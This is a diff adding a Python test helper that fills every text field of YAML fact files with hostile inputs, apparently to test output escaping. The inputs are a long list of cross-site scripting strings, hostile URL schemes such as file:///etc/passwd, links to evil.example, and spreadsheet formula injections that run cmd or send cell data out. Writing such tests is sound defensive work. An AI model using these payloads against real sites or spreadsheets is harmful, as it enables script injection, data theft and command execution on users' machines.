@@ -1,0 +1,180 @@
+"""Hostile texts, and a copy of the second story in which every text field of every fact holds one."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from functools import cache
+from itertools import count as counter
+from pathlib import Path
+from typing import Any, Literal, get_args, get_origin
+
+import yaml
+from factbook.kinds import KINDS, ProseMark, Record, RefTo
+from factbook.kinds.base import HOMES as KNOWN_HOMES
+from factbook.kinds.base import Home, Url
+from pydantic.fields import FieldInfo
+
+PAYLOADS = (
+    "<script>hacked()</script>",
+    "<img src=x onerror=hacked()>",
+    "<svg/onload=hacked()>",
+    '"><svg onload=hacked()>',
+    "'><svg onload=hacked()>",
+    "' autofocus onfocus='hacked()' x='",
+    '" autofocus onfocus="hacked()" x="',
+    "</title><script>hacked()</script>",
+    "</textarea><script>hacked()</script>",
+    "</script><script>hacked()</script>",
+    "</style><script>hacked()</script>",
+    "]]></svg><script>hacked()</script>",
+    "--><script>hacked()</script><!--",
+    "<!--block--><script>hacked()</script><!--/block-->",
+    "&lt;script&gt;hacked()&lt;/script&gt;",
+    "&amp;lt;img src=x onerror=hacked()&amp;gt;",
+    "[press](javascript:hacked())",
+    "![x](x 'y' onerror=hacked())",
+    "<javascript:hacked()> <https://evil.example/>",
+    "<a href='javascript:hacked()'>press</a>",
+    "<a href='java&#x09;script:hacked()'>press</a>",
+    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css'; * {background: url(//evil.example/x)}</style>",
+    "x; background: url(https://evil.example/x); y",
+    "<base href=//evil.example/><meta http-equiv=refresh content='1; url=//evil.example'>",
+    "<object data=//evil.example/x><embed src=//evil.example/y>",
+    "<form action=//evil.example><button formaction=javascript:hacked()>press</button></form>",
+    "＜script＞hacked()＜/script＞ ‹script› ʺ onload=hacked()",
+    "<\u017fcript>hacked()</\u017fcript> <scr\u0131pt>hacked()</scr\u0131pt>",
+    "\\x3cscript\\x3ehacked()\\x3c/script\\x3e \\u003cscript>",
+    "`${hacked()}` \\';hacked()//",
+    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()></style></mglyph></table></mtext></math>",
+    "=HYPERLINK('https://evil.example?'&A,'press')",
+    "+cmd|' /C calc'!A",
+    "-cmd|' /C calc'!A",
+    "@SUM(A:A)",
+    "=cmd|'/c calc'!A",
+)
+PROSE = tuple(payload for payload in PAYLOADS if not re.search(r"[0-9{}]", payload))
+"""Those that prose takes, which has no unbound digit and no brace."""
+SCHEMES = (
+    *(
+        "javascript:hacked()",
+        "JavaScript:hacked()",
+        " javascript:hacked()",
+        "java\tscript:hacked()",
+        "data:text/html,<script>hacked()</script>",
+    ),
+    *(
+        "vbscript:hacked()",
+        "file:///etc/passwd",
+        "//evil.example/x",
+        "/x",
+        "x",
+        "blob:https://example.org/x",
+        "https:javascript:hacked()",
+        "https://",
+    ),
+    *(
+        "ftp://example.org/",
+        "https://exa mple.org/",
+        "https://example.org/\u202egnp.x",
+        "http:/\\evil.example",
+        "\x01javascript:hacked()",
+    ),
+)
+"""Addresses that lead nowhere good."""
+ADDRESS = "https://example.org/?q='%22%3E&x=<script>hacked()</script>"
+"""An address that may be one, and would be trouble if printed as it is."""
+NAMES = {("Correction", "field")}
+"""Fields that look like text and name something: what is not known there is refused, a payload too."""
+
+
+def texts_of(cls: type[Record]) -> dict[str, str]:
+    """The fields of a record that hold text, by the name in the file: ``text``, ``prose`` or ``address``; from its definition."""
+    found = {}
+    for name, field in cls.model_fields.items():
+        if (cls.__name__, name) not in NAMES and name != "id" and (sort := _sort(field)):
+            found[field.alias or name] = sort
+    return found
+
+
+def _sort(field: FieldInfo) -> str:
+    parts = list(_parts(field.annotation)) + list(field.metadata)
+    if any(isinstance(part, RefTo) for part in parts) or str not in parts:
+        return ""
+    if any(type(part).__name__ == "FieldInfo" and part.metadata for part in parts) or any(
+        hasattr(part, "pattern") for part in parts
+    ):
+        return ""  # of a pattern that no payload fits: an id, a language, a word
+    if get_args(Url)[1] in parts:
+        return "address"
+    return "prose" if any(isinstance(part, ProseMark) for part in parts) else "text"
+
+
+def _parts(annotation: Any) -> Iterator[Any]:
+    yield annotation
+    yield from getattr(annotation, "__metadata__", ())
+    if get_origin(annotation) is not Literal:
+        for each in get_args(annotation):
+            yield from _parts(each)
+
+
+def inner(cls: type[Record], name: str) -> type[Record] | None:
+    """The record that a field holds, or a list of."""
+    field = next((field for key, field in cls.model_fields.items() if name in (key, field.alias)), None)
+    return (
+        next((part for part in _parts(field.annotation) if isinstance(part, type) and issubclass(part, Record)), None)
+        if field
+        else None
+    )
+
+
+@cache
+def records() -> tuple[type[Record], ...]:
+    """Every sort of record there is in fact files: the kinds, and what stands inside them."""
+    found: list[type[Record]] = list(KINDS.values())
+    for cls in found:
+        for name, field in cls.model_fields.items():
+            if (child := inner(cls, field.alias or name)) and child not in found:
+                found.append(child)
+    return tuple(found)
+
+
+class Poison:
+    """Gives each text field the next payload, so that each field of each record gets many of them over the story."""
+
+    def __init__(self) -> None:
+        self.numbers = counter()
+        self.placed: set[tuple[str, str]] = set()
+
+    def fill(self, cls: type[Record], item: dict[str, Any]) -> None:
+        """Fill every text field of a fact and of what stands inside it, those that it did not have too."""
+        for name, sort in texts_of(cls).items():
+            field = next(field for key, field in cls.model_fields.items() if name in (key, field.alias))
+            several = {"address": (ADDRESS,), "prose": PROSE, "text": PAYLOADS}[sort]
+            payload = several[next(self.numbers) % len(several)]
+            if len(payload) > 80 and name == "at":
+                payload = payload[:79]
+            item[name] = [*item.get(name, []), payload] if str(field.annotation).startswith("tuple") else payload
+            self.placed.add((cls.__name__, name))
+        for name, value in item.items():
+            if child := inner(cls, name):
+                for each in value if isinstance(value, list) else [value]:
+                    self.fill(child, each)
+
+
+def poison(story: Path) -> set[tuple[str, str]]:
+    """Fill every text field of the facts below ``story`` with payloads; gives what was filled, as class and field."""
+    poison = Poison()
+    for kind, home in KNOWN_HOMES.items():
+        for path in sorted((story / "data").glob(_glob(home))):
+            facts = yaml.load(path.read_text(encoding="utf-8"), yaml.BaseLoader)  # all texts stay texts
+            for fact in [facts] if home.single else facts:
+                poison.fill(KINDS[kind], fact)
+            path.write_text(yaml.safe_dump(facts, allow_unicode=True, sort_keys=False, width=10**6), encoding="utf-8")
+    return poison.placed
+
+
+def _glob(home: Home) -> str:
+    return re.sub(r"\{id\}", "*", home.pattern)
